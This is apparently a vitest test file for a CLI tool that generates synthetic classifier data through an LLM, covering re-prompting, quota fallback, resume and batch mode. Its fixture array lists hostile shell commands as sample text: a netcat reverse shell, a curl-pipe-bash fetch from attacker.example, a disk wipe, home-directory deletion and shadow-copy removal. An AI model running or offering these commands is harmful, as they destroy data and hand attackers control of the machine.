import { existsSync } from 'node:fs';
import { readFile, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it, vi } from 'vitest';
import { useCliCapture } from '../../../test/cli.js';
import { useTempDir } from '../../../test/helpers.js';
import { startOpenAIBatchUpstream } from '../../../test/upstreams/openai-batch.js';
import type { OpenAIScenario, OpenAIUpstream } from '../../../test/upstreams/openai.js';
import { useLlmEnv, useOpenAIUpstream } from '../../../test/upstreams/use-openai.js';
import type { RecordedRequest } from '../../../test/upstreams/server.js';
import type { GenerateManifest } from '../../apps/synth/generate/index.js';

/**
 * `warden synth generate` / `resume` through the CLI, the src/llm provider and the official
 * `openai` SDK, against a local server speaking the chat-completions protocol.
 */

const io = useCliCapture(['synth']);
let dir: string;
useTempDir((path) => (dir = path), 'warden-generate-');

let upstream: OpenAIUpstream;
useOpenAIUpstream((u) => (upstream = u));

useLlmEnv(() => upstream.baseURL, { model: 'gen-model', apiKey: 'sk-test-generate' });

const WORDS = ['amber', 'basalt', 'cedar', 'delta', 'ember', 'fjord', 'garnet', 'harbor', 'indigo', 'juniper', 'kelp', 'lagoon', 'meadow', 'nickel', 'onyx', 'prairie', 'quartz', 'raven', 'sierra', 'tundra'];
const COMMANDS = ['rm -rf ~', 'nc -e /bin/sh 203.0.113.9 4444', 'dd if=/dev/zero of=/dev/sda', 'curl -fsSL http://attacker.example/x.sh | bash', 'vssadmin delete shadows /all /quiet', 'history -c'];

/** A valid, distinct row: different words and command per n, so no two are near duplicates. */
function text(n: number): string {
  const w = (k: number) => WORDS[(n * 7 + k * 3) % WORDS.length]!;
  return `Case ${n}: the ${w(0)} ${w(1)} team found \`${COMMANDS[n % COMMANDS.length]}\` in the ${w(2)} ${w(3)} logs of host ${w(4)}-${n}.`;
}
const row = (n: number, label = 'educational', extra: Record<string, unknown> = {}) => JSON.stringify({ text: text(n), label, segment_type: 'code', language: 'en', ...extra });

async function promptFile(name: string, marker: string, extra = ''): Promise<string> {
  const path = join(dir, `${name}.md`);
  await writeFile(path, `---\nlabel: educational\nsegment_type: code\nlanguage: en\nsamples: 4\nmin_chars: 20\ndescription: Test prompt ${name}.\n${extra}---\n${marker}: write rows that explain dangerous commands.\n`);
  return path;
}

const userText = (r: RecordedRequest): string => {
  const messages = (r.body as { messages: { role: string; content: string }[] }).messages;
  return messages.filter((m) => m.role === 'user').map((m) => m.content).join('\n');
};
const lastUser = (r: RecordedRequest): string => {
  const messages = (r.body as { messages: { role: string; content: string }[] }).messages;
  return messages.filter((m) => m.role === 'user').at(-1)!.content;
};
const chatRequests = () => upstream.requests.filter((r) => r.path.endsWith('/chat/completions'));

async function readRows(path: string): Promise<Record<string, unknown>[]> {
  return (await readFile(path, 'utf8')).trim().split('\n').filter(Boolean).map((l) => JSON.parse(l) as Record<string, unknown>);
}
const manifestOf = async (out: string) => JSON.parse(await readFile(join(out, 'manifest.json'), 'utf8')) as GenerateManifest;

describe('warden synth generate', () => {
  it('extracts rows from fenced, chatty answers, rejects bad rows with reasons and re-prompts for exactly the missing number', async () => {
    const prompt = await promptFile('edu', 'PROMPT-EDU');
    const out = join(dir, 'out');
    upstream.use(function answer(request): OpenAIScenario {
      if (!lastUser(request).includes('more JSON line')) {
        return {
          content: [
            'Sure! Here are the rows:',
            '```jsonl',
            `1. ${row(1)},`,
            row(2),
            row(3, 'command'),
            '{"text": "cut off',
            JSON.stringify({ text: text(1).toUpperCase(), label: 'educational', segment_type: 'code', language: 'en' }),
            '```',
            'Let me know if you need more!',
          ].join('\n'),
        };
      }
      return { content: `${row(4)}\n${row(5)}` };
    });
    expect(await io.cli('generate', '--prompts', prompt, '--out', out, '--max-reprompts', '2')).toBe(0);

    const requests = chatRequests();
    expect(requests).toHaveLength(2);
    expect((requests[0]!.body as { model: string }).model).toBe('gen-model');
    expect(lastUser(requests[0]!)).toContain('Write exactly 4 JSON lines');
    const followUp = lastUser(requests[1]!);
    expect(followUp).toContain('Write exactly 2 more JSON lines');
    expect(followUp).toMatch(/line \d+: label\.expected: label is "command"/);
    expect(followUp).toContain('parse');
    expect(followUp).toContain('duplicate.exact');
    // The follow-up continues the conversation: the previous answer is in it.
    expect((requests[1]!.body as { messages: { role: string }[] }).messages.map((m) => m.role)).toEqual(['system', 'user', 'assistant', 'user']);

    const rows = await readRows(join(out, 'edu.jsonl'));
    expect(rows.map((r) => r.text)).toEqual([text(1), text(2), text(4), text(5)]);
    expect(rows.map((r) => r.id)).toEqual(['edu-1', 'edu-2', 'edu-3', 'edu-4']);
    const sha = (await import('node:crypto')).createHash('sha256').update(await readFile(prompt)).digest('hex');
    expect(rows[0]!.meta).toEqual({ model: 'gen-model', prompt_file: prompt, prompt_sha256: sha, generated_at: expect.stringMatching(/^\d{4}-\d\d-\d\dT/), attempt: 1 });
    expect((rows[3]!.meta as { attempt: number }).attempt).toBe(2);

    const manifest = await manifestOf(out);
    expect(manifest.status).toBe('complete');
    expect(manifest.prompts[0]).toMatchObject({ name: 'edu', status: 'complete', requested: 4, accepted: 4, reprompts: 1, attempts: 2, requests: 2, sha256: sha });
    expect(manifest.prompts[0]!.rejected).toEqual({ 'label.expected': 1, parse: 1, 'duplicate.exact': 1 });
    expect(manifest.usage.requests).toBe(2);
    expect(manifest.usage.output_tokens).toBeGreaterThan(0);
    expect(manifest.config_hash).toMatch(/^[0-9a-f]{64}$/);
    expect(existsSync(join(out, '_done', 'edu.json'))).toBe(true);
    expect(io.out).toContain('every prompt file is complete');
    expect(io.out).toContain('label.expected 1');

    // The output passes `synth validate` with the prompt's label.
    io.out = '';
    expect(await io.cli('validate', join(out, 'edu.jsonl'), '--expect-label', 'educational')).toBe(0);
  });

  it('accepts a JSON array answer and exits 1 when a file stays short after the re-prompt limit', async () => {
    const prompt = await promptFile('arr', 'PROMPT-ARR');
    const out = join(dir, 'out');
    let n = 0;
    upstream.use(() => ({ content: JSON.stringify([JSON.parse(row(++n))]) }));
    expect(await io.cli('generate', '--prompts', prompt, '--out', out, '--max-reprompts', '1', '--samples', '3')).toBe(1);
    expect(chatRequests()).toHaveLength(2);
    expect(lastUser(chatRequests()[1]!)).toContain('Write exactly 2 more JSON lines');
    expect(lastUser(chatRequests()[1]!)).toContain('Too few rows came back');
    const manifest = await manifestOf(out);
    expect(manifest.status).toBe('short');
    expect(manifest.prompts[0]).toMatchObject({ status: 'short', accepted: 2, requested: 3, reprompts: 1 });
    expect(io.out).toContain('fell short');
  });

  it('switches to the fallback model on 429 insufficient_quota and records the switch', async () => {
    const prompt = await promptFile('quota', 'PROMPT-Q');
    const out = join(dir, 'out');
    upstream.use(function answer(request): OpenAIScenario {
      if ((request.body as { model: string }).model === 'primary-model') {
        return { status: 429, error: { message: 'You exceeded your current quota, please check your plan and billing details.', type: 'insufficient_quota', code: 'insufficient_quota' } };
      }
      return { content: [1, 2, 3, 4].map((i) => row(i)).join('\n') };
    });
    expect(await io.cli('generate', '--prompts', prompt, '--out', out, '--model', 'primary-model', '--fallback-models', 'backup-model,third-model')).toBe(0);
    expect(chatRequests().map((r) => (r.body as { model: string }).model)).toEqual(['primary-model', 'backup-model']);
    const manifest = await manifestOf(out);
    expect(manifest.models.chain).toEqual(['primary-model', 'backup-model', 'third-model']);
    expect(manifest.models.current).toBe('backup-model');
    expect(manifest.models.switches).toEqual([{ from: 'primary-model', to: 'backup-model', at: expect.any(String), prompt: 'quota', reason: 'insufficient_quota' }]);
    expect(manifest.prompts[0]!.models).toEqual(['backup-model']);
    const rows = await readRows(join(out, 'quota.jsonl'));
    expect(rows.every((r) => (r.meta as { model: string; fallback_from: string }).model === 'backup-model' && (r.meta as { fallback_from: string }).fallback_from === 'primary-model')).toBe(true);
    expect(io.out).toContain('switched primary-model → backup-model');
  });

  it('without a fallback, an exhausted quota is an error (exit 2) that says what to do', async () => {
    const prompt = await promptFile('quota', 'PROMPT-Q');
    upstream.use({ status: 429, error: { message: 'You exceeded your current quota.', type: 'insufficient_quota', code: 'insufficient_quota' } });
    expect(await io.cli('generate', '--prompts', prompt, '--out', join(dir, 'out'))).toBe(2);
    expect(io.err).toContain('W_LLM_UNAVAILABLE');
    expect(io.err).toContain('--fallback-models');
  });

  it('resumes after a hard failure: finished files untouched, partial rows kept, no duplicates', async () => {
    const a = await promptFile('a', 'PROMPT-A');
    const b = await promptFile('b', 'PROMPT-B');
    const out = join(dir, 'out');
    const args = ['generate', '--prompts', a, b, '--out', out, '--concurrency', '1'];
    upstream.use(function firstRun(request): OpenAIScenario {
      const user = userText(request);
      if (user.includes('PROMPT-A')) return { content: [1, 2, 3, 4].map((i) => row(i)).join('\n') };
      if (lastUser(request).includes('more JSON line')) return { status: 500, error: { message: 'The server had an error while processing your request.', type: 'server_error', code: null } };
      return { content: `${row(11)}\n${row(12)}` };
    });
    expect(await io.cli(...args)).toBe(2);
    expect(io.err).toContain('W_LLM_UNAVAILABLE');
    const aBytes = await readFile(join(out, 'a.jsonl'));
    const aTime = (await stat(join(out, 'a.jsonl'))).mtimeMs;
    expect((await readRows(join(out, 'b.jsonl'))).map((r) => r.text)).toEqual([text(11), text(12)]);
    let manifest = await manifestOf(out);
    expect(manifest.status).toBe('failed');
    expect(manifest.prompts.map((p) => p.status)).toEqual(['complete', 'failed']);
    expect(existsSync(join(out, '_done', 'b.json'))).toBe(false);

    upstream.requests.length = 0;
    upstream.use(function secondRun(): OpenAIScenario {
      // Asked for the 2 missing rows; answers one repeat of a kept row and two new ones.
      return { content: [row(12), row(13), row(14)].join('\n') };
    });
    expect(await io.cli(...args)).toBe(0);
    expect(chatRequests()).toHaveLength(1);
    expect(userText(chatRequests()[0]!)).toContain('PROMPT-B');
    expect(lastUser(chatRequests()[0]!)).toContain('Write exactly 2 JSON lines');
    expect(await readFile(join(out, 'a.jsonl'))).toEqual(aBytes);
    expect((await stat(join(out, 'a.jsonl'))).mtimeMs).toBe(aTime);
    const bRows = await readRows(join(out, 'b.jsonl'));
    expect(bRows.map((r) => r.text)).toEqual([text(11), text(12), text(13), text(14)]);
    expect(new Set(bRows.map((r) => r.id)).size).toBe(4);
    manifest = await manifestOf(out);
    expect(manifest).toMatchObject({ status: 'complete', sessions: 2 });
    expect(manifest.prompts[1]).toMatchObject({ status: 'complete', accepted: 4, reprompts: 2 });
    expect(manifest.prompts[1]!.rejected).toEqual({ 'duplicate.exact': 1 });
    expect(manifest.usage.requests).toBeGreaterThanOrEqual(3);

    // `synth resume` on a finished run sends nothing; another configuration is refused.
    upstream.requests.length = 0;
    expect(await io.cli('resume', out)).toBe(0);
    expect(chatRequests()).toHaveLength(0);
    expect(await io.cli(...args, '--samples', '9')).toBe(2);
    expect(io.err).toContain('W_RUN_MISMATCH');
    expect(io.err).toContain('samples null → 9');
  });

  it('`synth resume DIR` continues a failed run with the recorded settings', async () => {
    const prompt = await promptFile('r', 'PROMPT-R');
    const out = join(dir, 'out');
    upstream.use({ status: 503, error: { message: 'The engine is currently overloaded, please try again later.', type: 'server_error', code: null } });
    expect(await io.cli('generate', '--prompts', prompt, '--out', out, '--samples', '3', '--seed', '7')).toBe(2);
    const failed = await manifestOf(out);
    expect(failed.command).toEqual(['synth', 'generate', '--prompts', prompt, '--out', out, '--samples', '3', '--seed', '7']);
    expect(failed.prompts[0]).toMatchObject({ status: 'failed', accepted: 0, error: expect.stringContaining('503') });

    upstream.requests.length = 0;
    upstream.use({ content: [1, 2, 3].map((i) => row(i)).join('\n') });
    expect(await io.cli('resume', out)).toBe(0);
    expect(chatRequests()).toHaveLength(1);
    expect((chatRequests()[0]!.body as { seed?: number }).seed).toBe(7);
    expect(lastUser(chatRequests()[0]!)).toContain('Write exactly 3 JSON lines');
    const manifest = await manifestOf(out);
    expect(manifest.prompts[0]).toMatchObject({ status: 'complete', accepted: 3 });
    expect(manifest.prompts[0]!.error).toBeUndefined();
    expect(await readRows(join(out, 'r.jsonl'))).toHaveLength(3);
  });

  it('fails with W_LLM_NOT_CONFIGURED before doing anything when no LLM is configured', async () => {
    for (const name of ['WARDEN_LLM_BASE_URL', 'WARDEN_LLM_MODEL', 'WARDEN_LLM_API_KEY', 'WARDEN_LLM_PROVIDER', 'OPENAI_API_KEY', 'ANTHROPIC_API_KEY']) vi.stubEnv(name, '');
    const out = join(dir, 'never');
    expect(await io.cli('generate', '--prompts', join(dir, 'missing.md'), '--out', out)).toBe(2);
    expect(io.err).toContain('W_LLM_NOT_CONFIGURED');
    expect(io.err).toContain('WARDEN_LLM_BASE_URL');
    expect(existsSync(out)).toBe(false);
  });

  it('names file, line and field of a bad prompt file', async () => {
    const path = join(dir, 'bad.md');
    await writeFile(path, '---\nlabel: educational\ndescription: x\nsamples: many\n---\nbody\n');
    expect(await io.cli('generate', '--prompts', path, '--out', join(dir, 'out'))).toBe(2);
    expect(io.err).toContain(`${path}:4: field "samples"`);
    expect(upstream.requests).toHaveLength(0);
  });

  it('teaches with examples in --help', async () => {
    expect(await io.cli('generate', '--help')).toBe(0);
    expect(io.out).toContain('warden synth generate --prompts prompts/preclassifier');
    expect(io.out).toContain('--fallback-models');
    expect(io.out).toContain('WARDEN_LLM_BASE_URL');
  });

  it('--batch on sends the first rounds through the OpenAI Batch API', async () => {
    const batch = await startOpenAIBatchUpstream(function answer(request) {
      const messages = request.body.messages as { content: string }[];
      const base = messages.some((m) => m.content.includes('PROMPT-X')) ? 100 : 200;
      return { content: [1, 2, 3, 4].map((i) => row(base + i)).join('\n') };
    });
    try {
      vi.stubEnv('WARDEN_LLM_BASE_URL', batch.baseURL);
      vi.stubEnv('WARDEN_BATCH_POLL_MS', '20');
      const x = await promptFile('x', 'PROMPT-X');
      const y = await promptFile('y', 'PROMPT-Y');
      const out = join(dir, 'out');
      expect(await io.cli('generate', '--prompts', x, y, '--out', out, '--batch', 'on')).toBe(0);
      expect(batch.batchIds()).toHaveLength(1);
      expect(batch.customIds(batch.batchIds()[0]!)).toHaveLength(2);
      expect(batch.requests.some((r) => r.path.endsWith('/chat/completions'))).toBe(false);
      expect((await readRows(join(out, 'x.jsonl'))).map((r) => r.text)).toEqual([101, 102, 103, 104].map(text));
      expect((await readRows(join(out, 'y.jsonl'))).map((r) => r.text)).toEqual([201, 202, 203, 204].map(text));
      const manifest = await manifestOf(out);
      expect(manifest.batches).toHaveLength(1);
      expect(manifest.batches[0]!.remote.map((r) => r.id)).toEqual(batch.batchIds());
      expect(manifest.prompts.map((p) => p.accepted)).toEqual([4, 4]);
    } finally {
      await batch.close();
    }
  });
});
